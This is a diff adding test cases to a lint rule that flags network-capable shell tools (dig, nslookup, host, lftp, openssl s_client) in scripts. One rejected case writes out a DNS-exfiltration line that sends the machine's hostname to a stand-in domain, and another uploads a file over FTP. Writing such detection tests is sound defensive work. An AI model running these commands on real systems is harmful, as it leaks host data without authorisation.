@@ -11,6 +11,7 @@ ruleTester(rule, {
     "bash -c 'echo ok > /dev/null'",
     { name: 'command -v only looks curl up', code: 'if command -v curl >/dev/null 2>&1; then echo has-curl; fi' },
     { name: 'an allowed host', code: 'curl -s -o out.json http://localhost:3000/health', options: { allowedHosts: ['localhost'] } },
+    { name: 'openssl without s_client', code: 'openssl sha256 -r out.tar' },
   ],
   reject: [
     { code: 'curl -s https://example.com/x', errors: [{ messageId: 'tool', severity: 'warning', line: 1, column: 1, endColumn: 30 }] },
@@ -47,6 +48,19 @@ ruleTester(rule, {
       name: 'after the tree-sitter misparse of a 3-stage pipeline',
       code: 'a | b | c\ncurl -s http://h/x && y',
       errors: [{ line: 2, column: 1, endColumn: 19 }],
+    },
+    {
+      name: 'a DNS lookup (a query can carry data out)',
+      code: 'dig +short "$(hostname).x.example"',
+      errors: [{ messageId: 'tool', line: 1, column: 1 }],
+    },
+    { name: 'nslookup', code: 'nslookup example.com', errors: [{ line: 1, column: 1 }] },
+    { name: 'host', code: 'host -t TXT example.com', errors: [{ line: 1, column: 1 }] },
+    { name: 'lftp', code: "lftp -c 'open ftp://h; put f'", errors: [{ line: 1, column: 1 }] },
+    {
+      name: 'openssl s_client',
+      code: 'echo | openssl s_client -connect h:443',
+      errors: [{ line: 1, column: 8, endColumn: 39, message: /`openssl s_client`/ }],
     },
     {
       name: 'a host not on the list',
